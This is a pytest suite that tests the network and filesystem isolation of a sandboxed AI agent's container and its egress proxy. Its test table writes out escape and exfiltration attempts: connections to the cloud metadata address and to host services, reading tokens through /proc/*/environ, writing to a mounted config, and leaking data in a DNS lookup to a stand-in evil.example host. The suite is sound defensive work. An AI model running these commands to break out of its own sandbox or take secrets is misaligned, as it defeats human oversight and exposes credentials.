"""A compiled bottle brought up by the real engine: what an agent in its container can and cannot do.
Each attack fails, and works once its guard is taken out of the compose file."""

import json
import shutil
import time
from pathlib import Path

import pytest

import attacks
from bottle import Bottle
from egress import compile_bottle, patch, wait_for
from engine import FAR_END_ADDRESS, HOST_ADDRESS
from test_addon import MANIFEST

HERE = Path(__file__).parent
SUBNET = "10.77.7"
VALUES = {"API_TOKEN": "real-token-5d1e"}

INSIDE = '  "inside":\n    driver: "bridge"\n    internal: true\n    enable_ipv6: false\n'
INHIBIT = '    driver_opts:\n      "com.docker.network.bridge.inhibit_ipv4": "true"\n'
INTERNAL = (INSIDE + INHIBIT, INSIDE.replace("internal: true", "internal: false"))
ISOLATED = (INSIDE + INHIBIT, INSIDE)
# What looks at the walls before the agent starts.
PROBE = ('        - "-I"\n        - "/tmp/probe.py"\n      interval', '        - "-c"\n        - "pass"\n      interval')
ON_THE_INSIDE = f'      "inside":\n        ipv4_address: "{SUBNET}.3"\n'
UPLINK = (ON_THE_INSIDE, ON_THE_INSIDE + '      "uplink": {}\n')
ENVIRONMENT = ('      "CURL_CA_BUNDLE": "/bottle/ca/bundle.pem"\n', '      "CURL_CA_BUNDLE": "/bottle/ca/bundle.pem"\n      "EGRESS_TOKEN_0":\n')
MOUNT = ('        target: "/bottle"\n        read_only: true\n', '        target: "/bottle"\n        read_only: false\n')

DNS = ('    dns:\n      - "127.0.0.1"\n', "")
LOOK_UP = ["python3", "-c", "import socket; print('tried'); print(socket.gethostbyname('secret-in-a-name.evil.example'))"]

CONNECT = "import socket, sys; print('tried'); socket.create_connection((sys.argv[1], int(sys.argv[2])), 3); print('connected')"


def connect(address, port):
    return ["python3", "-c", CONNECT, address, str(port)]


# name: (command in the agent's container, its output when it has worked, the guards' changes in compose.yaml)
NETWORK = {
    "direct connection": (connect(FAR_END_ADDRESS, 443), "connected", [INTERNAL, PROBE]),
    "cloud metadata, directly": (connect("169.254.169.254", 443), "connected", [INTERNAL, PROBE]),
    "service of the host, by the network's gateway": (connect(f"{SUBNET}.1", 8000), "connected", [ISOLATED, PROBE]),
    "service of the host, by its own address": (connect(HOST_ADDRESS, 8000), "connected", [INTERNAL, PROBE]),
    "pipelock, around egress": (connect("pipelock", 8888), "connected", [UPLINK]),
    "reading a token from the environment": (["sh", "-c", "echo tried; cat /proc/*/environ"], "real-token", [ENVIRONMENT]),
    "changing what is mounted": (["sh", "-c", "echo tried; echo x > /bottle/agent.env && echo changed"], "changed", [MOUNT]),
    "data in a DNS lookup": (LOOK_UP, FAR_END_ADDRESS, [INTERNAL, DNS, PROBE]),
}


@pytest.fixture(scope="module")
def compiled(tmp_path_factory):
    manifest = MANIFEST + f"network: {{ subnet: {SUBNET}.0/24 }}\n"
    return compile_bottle(tmp_path_factory.mktemp("compiled"), manifest)


@pytest.mark.parametrize("name", NETWORK)
def test_network_attack(name, engine, images, far_end, compiled, tmp_path, row):
    row("attack on the container's walls", name)
    command, sign, guards = NETWORK[name]
    shutil.copytree(compiled, tmp_path / "guarded/target")
    shutil.copytree(compiled, tmp_path / "unguarded/target")
    patch(tmp_path / "unguarded/target", "compose.yaml", guards)
    (tmp_path / "www").mkdir()
    with engine.started("host", "python3", "-m", "http.server", "8000", "--directory", tmp_path / "www"):
        with Bottle(engine, images, tmp_path / "guarded/target", VALUES, up=False) as bottle:
            done = bottle.run(*command)
            assert "tried" in done.stdout and sign not in done.stdout, done.stdout + done.stderr
        with Bottle(engine, images, tmp_path / "unguarded/target", VALUES, up=False, launcher=False) as bottle:
            done = bottle.run(*command)
            assert sign in done.stdout, "without its guard the attack should have worked: " + done.stdout + done.stderr


def test_a_lookup_is_not_answered_even_where_there_is_a_way_out(engine, images, far_end, compiled, tmp_path, row):
    # Engines before 25.0.5 forward lookups from internal networks when the host's resolver is local.
    row("attack on the container's walls", "data in a DNS lookup, where the network is not what stops it")
    shutil.copytree(compiled, tmp_path / "target")
    patch(tmp_path / "target", "compose.yaml", [INTERNAL, PROBE])
    with Bottle(engine, images, tmp_path / "target", VALUES, up=False, launcher=False) as bottle:
        done = bottle.run(*LOOK_UP)
        assert "tried" in done.stdout and not far_end.events("name", name="secret-in-a-name.evil.example"), done.stdout


@pytest.fixture(scope="module")
def standing(engine, images, compiled, tmp_path_factory):
    """One bottle for all attacks on egress from inside its agent's container."""
    from far_end import FarEnd

    engine.wipe()
    folder = shutil.copytree(compiled, tmp_path_factory.mktemp("standing") / "target")
    with FarEnd(engine, images.authority) as far_end, Bottle(engine, images, folder, VALUES) as bottle:
        yield bottle, far_end
    engine.wipe()


@pytest.mark.parametrize("name", attacks.ALL)
def test_attack_from_inside(name, standing, row):
    row("attack on egress from the container", name)
    bottle, far_end = standing
    far_end.forget()
    done = bottle.agent("python3", "-", name, f"http://{SUBNET}.2:9099", input=(HERE / "attacks.py").read_text())
    assert done.returncode == 0, done.stderr
    assert not attacks.ALL[name].worked(far_end.events(), done.stdout), (done.stdout, far_end.events())


def test_the_agent_has_no_privilege(standing, row):
    row("container", "the agent has no capability and can gain none")
    bottle, _ = standing
    status = dict(line.split(":\t", 1) for line in bottle.agent("cat", "/proc/self/status").stdout.splitlines() if ":\t" in line)
    assert int(status["CapEff"], 16) == int(status["CapBnd"], 16) == 0 and status["NoNewPrivs"] == "1"


def test_only_their_owners_have_the_private_keys(standing, row):
    row("container", "private keys are in their owner's volume alone; public certificates are handed on")
    bottle, _ = standing
    everywhere = bottle.agent("sh", "-c", "grep -rl 'PRIVATE KEY' /bottle /home /workspace /tmp 2>/dev/null; ls /bottle/ca").stdout
    assert everywhere.split() == ["bundle.pem", "egress.pem"]
    engine = bottle.engine
    volumes = {
        service: {mount["Destination"] for mount in engine.inspect(bottle.container(service))["Mounts"]}
        for service in ("agent", "egress", "pipelock")
    }
    assert volumes["agent"] == {"/bottle", "/home/node", "/workspace"}
    assert volumes["egress"] == {"/etc/egress", "/etc/pipelock", "/egress-ca"}
    assert volumes["pipelock"] == {"/config", "/pipelock-ca"}
    key = engine.inside(bottle.container("egress"), "stat", "-c", "%u %a", "/egress-ca/mitmproxy-ca.pem").stdout.split()
    assert key == ["65534", "600"]
    for name in ("egress.pem", "bundle.pem"):
        text = (bottle.folder / "agent/ca" / name).read_text()
        assert "BEGIN CERTIFICATE" in text and "PRIVATE" not in text


def test_an_addon_that_changes_under_a_running_egress_is_not_run(standing, row):
    row("container", "an addon that changes on disk is not run: all is refused until egress is created again")
    bottle, _ = standing
    # `bottlec exec` finds no container for an edited tree.
    agent, addon = bottle.container("agent"), bottle.folder / "egress/addon.py"
    ask = lambda: bottle.engine.inside(agent, "curl", "--silent", f"https://{attacks.OPEN}/", "http://evil.example/").stdout
    text = addon.read_text()
    try:
        addon.write_text("broken(")
        wait_for(lambda: '"stale"' in ask(), "the refusal", 10)
        assert attacks.OPEN not in ask()
    finally:
        addon.write_text(text)
    time.sleep(2)
    assert '"stale"' in ask()
    bottle.compose("up", "--detach", "--force-recreate", "egress")
    bottle.engine.wait_healthy(bottle.container("egress"), 90)
    assert attacks.OPEN in ask()


def test_egress_reads_its_routes_again_by_itself(standing, row):
    row("container", "a running egress reads its routes again by itself; pipelock's file holds for what they add")
    bottle, _ = standing
    # Into the mounted folder as a build does it: beside the file and renamed over it.
    agent, routes = bottle.container("agent"), bottle.folder / "egress/routes.yaml"
    text = routes.read_text()
    ask = lambda: bottle.engine.inside(agent, "curl", "--silent", f"https://{attacks.FOREIGN}/").stdout
    assert ask() == ""

    def put(content):
        new = routes.with_name(".routes.yaml.new")
        new.write_text(content)
        new.chmod(0o644)
        new.rename(routes)

    try:
        put(text + f'  - host: "{attacks.FOREIGN}"\n')
        # Egress lets it through now; pipelock, whose file is the old one, does not.
        wait_for(lambda: "refused HTTP CONNECT request: 403" in ask(), "the new route", 10)
    finally:
        put(text)
        wait_for(lambda: ask() == "", "the old routes", 10)


def test_the_microvm_side_of_egress_answers_the_host(standing, row):
    row("container", "a microVM's way: the host reaches egress at its machine address once it is asked for, and nothing else of the bottle")
    bottle, _ = standing
    run = lambda address: bottle.engine.run("host", *connect(address, 9099), check=False).stdout
    assert "connected" not in run(f"{SUBNET}.130")
    bottle.compose("up", "--detach", "machine-egress")
    bottle.engine.wait_healthy(bottle.container("machine-egress"), 90)
    assert "connected" in run(f"{SUBNET}.130")
    assert "connected" not in run(f"{SUBNET}.2")
    bottle.compose("stop", "machine-egress")
    assert "connected" not in run(f"{SUBNET}.130")


def test_a_second_start_keeps_the_authorities(standing, row):
    row("container", "a second start keeps both authorities")
    bottle, _ = standing
    engine, folder = bottle.engine, bottle.folder
    before = (folder / "agent/ca/egress.pem").read_text()
    pipelock = engine.inside(bottle.container("egress"), "tail", "-n", "3", "/egress-ca/upstream.pem").stdout
    bottle.compose("up", "--detach", "--force-recreate")
    engine.wait_healthy(bottle.container("egress"))
    assert (folder / "agent/ca/egress.pem").read_text() == before
    assert engine.inside(bottle.container("egress"), "tail", "-n", "3", "/egress-ca/upstream.pem").stdout == pipelock
    answer = bottle.agent("curl", "--silent", f"https://{attacks.OPEN}/")
    assert json.loads(answer.stdout)["host"] == attacks.OPEN, answer.stderr
